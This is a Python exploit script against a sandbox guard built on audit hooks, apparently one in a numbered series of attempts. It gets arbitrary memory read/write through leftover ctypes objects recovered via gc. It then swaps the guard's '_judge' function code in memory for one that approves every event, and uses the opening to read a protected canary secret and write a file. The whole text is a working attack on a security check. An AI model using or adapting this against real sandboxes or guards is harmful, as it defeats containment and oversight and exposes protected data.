# READ+WRITE (guard v2): same leftover-ctypes memory R/W as 84, but swap judge()'s func_code pointer in memory (bypasses the protected-__code__ check) for a function that judges everything harmless
# pointer()/indexing are unaudited -> arbitrary memory R/W (with id()); overwrite the hook's quickened bytecode with RESUME_QUICK; LOAD_CONST 0; RETURN_VALUE
import sys, codecs
_imp = sys.modules['_imp']
gc = _imp.create_builtin(type(sys.__spec__)('gc', _imp.__spec__.loader, origin='built-in')); _imp.exec_builtin(gc)
gc.set_debug(gc.DEBUG_SAVEALL); gc.collect(); gc.set_debug(0)
cdll = next(o for o in gc.garbage if type(o).__name__ == 'CDLL')
ct = type(cdll).__init__.__globals__
gc.garbage.clear()
pointer, c_uint64 = ct['pointer'], ct['c_uint64']
anchor = c_uint64(0x1122334455667788); p = pointer(anchor)
assert p[0] == 0x1122334455667788
for OFF in range(24, 256, 8):
    B = id(anchor) + OFF
    if p[-((OFF - 16) // 8)] == B: break
else: raise SystemExit('no b_ptr')
def rd8(a): return p[(a - B) // 8]
def wr8(a, v): p[(a - B) // 8] = v
def rdb(a, n):
    base = a - (a - B) % 8; out = b''
    while len(out) < n + (a - base):
        out += rd8(base + len(out)).to_bytes(8, 'little')
    return out[a - base:a - base + n]
def wrb(a, data):
    base = a - (a - B) % 8
    buf = bytearray(rdb(base, ((a - base + len(data) + 7) // 8) * 8))
    buf[a - base:a - base + len(data)] = data
    for i in range(0, len(buf), 8): wr8(base + i, int.from_bytes(buf[i:i + 8], 'little'))
def dummy(): return 123456789
dc = dummy.__code__; raw = dc.co_code
OFFC = next(o for o in range(0, 512) if rdb(id(dc) + o, len(raw)) == raw)
print('b_value offset', OFF, 'co_code_adaptive offset', OFFC)
try: codecs.open('/canary/secret.txt').close()
except PermissionError as e:
    tb = e.__traceback__
    while tb.tb_frame.f_code.co_name != 'hook': tb = tb.tb_next
    judge = tb.tb_frame.f_locals['_judge']
del tb

def lenient(event, args, *a, **k): return None
nc = lenient.__code__
FUNC_CODE = 48
assert rd8(id(judge) + FUNC_CODE) == id(judge.__code__), 'func_code offset'
wr8(id(nc), rd8(id(nc)) + 1)          # incref the new code object
sys.stdout.flush()
wr8(id(judge) + FUNC_CODE, id(nc))
print('judge now runs', judge.__code__.co_name, flush=True)
print(open('/canary/secret.txt').read(), flush=True)
os = sys.modules['os']
os.close(os.open('/canary/out/after_func_code_swap', os.O_WRONLY | os.O_CREAT, 0o644)); print('wrote', flush=True)
